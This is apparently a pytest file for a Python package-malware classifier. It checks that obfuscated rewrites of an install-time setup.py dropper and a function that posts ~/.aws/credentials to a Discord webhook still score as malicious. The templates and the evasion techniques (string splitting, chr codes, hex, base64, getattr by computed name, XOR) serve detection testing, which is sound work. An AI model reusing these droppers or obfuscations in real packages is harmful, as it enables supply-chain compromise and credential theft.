"""The bundled model against small rewrites of one install-time dropper that hide its strings and names
from a reader (split, reversed, character codes, hex, base64 in pieces, names looked up by a computed
string). Each variant must still be flagged: the dropper plain is, and a rewrite that changes nothing it
does must not buy a benign verdict. The packages are written here and defanged: a TEST-NET address, and
nothing is ever run."""

from __future__ import annotations

import base64

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.model.interface import Scorer
from vetpy.model.loader import load_default_scorer

URL = "http://203.0.113.7/p.exe"
DROPPER = """import os
{imports}
from setuptools import setup

{url_line}
path = os.path.join(os.getenv("TEMP", "/tmp"), "p.exe")
{fetch}
{run}
setup(name="demo", version="1.0")
"""
PLAIN = {
    "imports": "import urllib.request",
    "url_line": f'url = "{URL}"',
    "fetch": "urllib.request.urlretrieve(url, path)",
    "run": "os.system(path)",
}


def codes(text: str) -> str:
    return ", ".join(str(ord(c)) for c in text)


def pieces(text: str, size: int = 5) -> str:
    return " + ".join(repr(text[i : i + size]) for i in range(0, len(text), size))


B64 = base64.b64encode(URL.encode()).decode()
VARIANTS: dict[str, dict[str, str]] = {
    "plain": {},
    "split url": {"url_line": f"url = {pieces(URL)}"},
    "reversed url": {"url_line": f"url = {URL[::-1]!r}[::-1]"},
    "chr url": {"url_line": f'url = "".join(map(chr, [{codes(URL)}]))'},
    "chr by computed name": {
        "url_line": f'url = "".join(map(getattr(__builtins__, "c" + "hr"), [{codes(URL)}]))'
    },
    "hex url": {"url_line": f"url = bytes.fromhex({URL.encode().hex()!r}).decode()"},
    "base64 in pieces": {
        "imports": "import urllib.request, base64",
        "url_line": f"url = base64.b64decode({pieces(B64, 8)}).decode()",
    },
    "system by name": {"run": 'getattr(os, "sys" + "tem")(path)'},
    "module by name": {
        "imports": "",
        "fetch": '__import__("url" + "lib.request", fromlist=["x"]).urlretrieve(url, path)',
    },
    "all at once": {
        "imports": "",
        "url_line": f'url = "".join(chr(c ^ 7) for c in [{codes("".join(chr(ord(c) ^ 7) for c in URL))}])',
        "fetch": 'getattr(__import__("url" + "lib.request", fromlist=["x"]), "urlre" + "trieve")(url, path)',
        "run": 'getattr(os, "metsys"[::-1])(path)',
    },
}


@pytest.fixture(scope="module")
def scorer() -> Scorer:
    return load_default_scorer()


@pytest.mark.parametrize("name", list(VARIANTS))
def test_hiding_the_droppers_strings_does_not_make_it_benign(name: str, scorer: Scorer) -> None:
    parts = {**PLAIN, **VARIANTS[name]}
    archive = make_archive({"setup.py": DROPPER.format(**parts)})
    score = scorer.score([extract_features(archive)])[0]
    assert score >= scorer.threshold, f"{name}: {score:.3f} < {scorer.threshold:.3f}"


STEALER = """import os
import requests


def sync_settings(profile):
    {path_line}
    with open(os.path.expanduser(path)) as handle:
        body = handle.read()
    {url_line}
    requests.post(url, data={{"p": profile, "c": body}}, timeout=5)
"""
SECRET = "~/.aws/credentials"
HOOK = "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop"
STEALER_VARIANTS = {
    "plain": (f"path = {SECRET!r}", f"url = {HOOK!r}"),
    "split": (f"path = {pieces(SECRET, 4)}", f"url = {pieces(HOOK, 6)}"),
    "reversed": (f"path = {SECRET[::-1]!r}[::-1]", f"url = {HOOK[::-1]!r}[::-1]"),
    "chr": (f'path = "".join(map(chr, [{codes(SECRET)}]))', f'url = "".join(map(chr, [{codes(HOOK)}]))'),
}
SETUP = "from setuptools import setup\nsetup(name='demo')\n"


@pytest.mark.parametrize("name", list(STEALER_VARIANTS))
def test_a_call_time_stealer_stays_flagged_however_it_spells_its_strings(name: str, scorer: Scorer) -> None:
    """A function that posts the caller's cloud credentials to a webhook, never run by itself."""
    path_line, url_line = STEALER_VARIANTS[name]
    module = STEALER.format(path_line=path_line, url_line=url_line)
    archive = make_archive({"demo/__init__.py": "", "demo/sync.py": module, "setup.py": SETUP})
    score = scorer.score([extract_features(archive)])[0]
    assert score >= scorer.threshold, f"{name}: {score:.3f} < {scorer.threshold:.3f}"
